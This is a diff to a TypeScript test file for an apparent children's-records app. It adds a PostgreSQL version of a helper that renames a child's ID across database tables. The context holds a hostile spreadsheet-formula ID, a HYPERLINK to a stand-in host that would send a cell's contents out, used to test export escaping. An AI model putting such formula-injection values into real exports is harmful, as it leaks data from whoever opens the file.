@@ -9,6 +9,7 @@ import { openCycle } from '../../src/main/core/review/cycles'
 import { exportCycle } from '../../src/main/core/review/export'
 import { checkDb } from '../../src/main/core/store/check'
 import { export903 } from '../../src/main/core/io/ssda903/export'
+import { testEngine } from '../helpers/postgres'
 import { tempContext, tempDir } from '../helpers/tmp'
 import { meetingFixture } from './panel/fixture'
 
@@ -16,6 +17,7 @@ const hostileId = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
 
 /** Gives a child a hostile ID everywhere it appears, as a crafted import could. */
 async function renameChild(ctx: Context, from: string, to: string): Promise<void> {
+  if (testEngine() === 'postgres') return await renameChildOnPostgres(ctx, from, to)
   const tables = await ctx.db
     .prepare("SELECT m.name FROM sqlite_master m JOIN pragma_table_info(m.name) c ON c.name = 'child_id' WHERE m.type = 'table'")
     .pluck()
@@ -24,6 +26,31 @@ async function renameChild(ctx: Context, from: string, to: string): Promise<void
   await ctx.db.prepare('DELETE FROM tracker_dirty WHERE child_id IN (?, ?)').run(from, to)
   for (const t of tables.filter((name) => name !== 'tracker_dirty')) await ctx.db.prepare(`UPDATE ${t} SET child_id = ? WHERE child_id = ?`).run(to, from)
   sqliteConnection(ctx.db, 'test').pragma('foreign_keys = ON')
+}
+
+/**
+ * PostgreSQL cannot switch foreign keys off, so the child is copied under its new ID,
+ * every row that refers to it moves across, and the old child goes.
+ */
+async function renameChildOnPostgres(ctx: Context, from: string, to: string): Promise<void> {
+  await ctx.db.transaction(async () => {
+    const tables = await ctx.db
+      .prepare(
+        `SELECT c.table_name FROM information_schema.columns c
+         JOIN information_schema.tables t ON t.table_schema = c.table_schema AND t.table_name = c.table_name AND t.table_type = 'BASE TABLE'
+         WHERE c.table_schema = current_schema() AND c.column_name = 'child_id' AND c.table_name NOT IN ('child', 'tracker_dirty') ORDER BY c.table_name`
+      )
+      .pluck()
+      .all() as string[]
+    const columns = (await ctx.db
+      .prepare("SELECT column_name FROM information_schema.columns WHERE table_schema = current_schema() AND table_name = 'child' AND column_name <> 'child_id' ORDER BY ordinal_position")
+      .pluck()
+      .all() as string[]).join(', ')
+    await ctx.db.prepare('DELETE FROM tracker_dirty WHERE child_id IN (?, ?)').run(from, to)
+    await ctx.db.prepare(`INSERT INTO child (child_id, ${columns}) SELECT ?, ${columns} FROM child WHERE child_id = ?`).run(to, from)
+    for (const t of tables) await ctx.db.prepare(`UPDATE ${t} SET child_id = ? WHERE child_id = ?`).run(to, from)
+    await ctx.db.prepare('DELETE FROM child WHERE child_id = ?').run(from)
+  })()
 }
 
 async function cellsOf(base64: string, sheetName: string, column: number): Promise<unknown[]> {
